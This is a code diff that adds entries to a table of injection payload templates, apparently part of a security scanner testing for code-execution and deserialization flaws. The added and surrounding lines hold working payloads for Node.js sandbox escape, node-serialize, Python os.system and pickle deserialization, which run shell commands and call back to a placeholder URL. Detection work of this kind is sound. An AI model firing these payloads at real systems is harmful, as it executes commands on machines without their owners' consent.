@@ -102,6 +102,12 @@ pub(crate) const ALL: &[Template] = &[
         "this.constructor.constructor('return process')().mainModule.require('fs').writeFileSync('{file}','x')",
         &[Shows::File],
     ),
+    text(
+        Family::Code,
+        "node-builtin",
+        "process.getBuiltinModule('child_process').execSync('touch {file}; curl -s {url}')",
+        RUNS,
+    ),
     text(Family::Code, "python-import", "__import__('os').system('touch {file}; curl -s {url}')", RUNS),
     text(Family::Code, "python-open", "open('{file}','w')", &[Shows::File]),
     text(
@@ -135,6 +141,12 @@ pub(crate) const ALL: &[Template] = &[
         "node-serialize-http",
         "_$$ND_FUNC$$_function(){require('http').get('{url}')}()",
         &[Shows::Callback],
+    ),
+    text(
+        Family::Deserialization,
+        "node-serialize-builtin",
+        "_$$ND_FUNC$$_function(){process.getBuiltinModule('fs').writeFileSync('{file}','x')}()",
+        &[Shows::File],
     ),
     text(Family::Deserialization, "pickle", "cos\nsystem\n(S'touch {file}; curl -s {url}'\ntR.", RUNS),
     text(
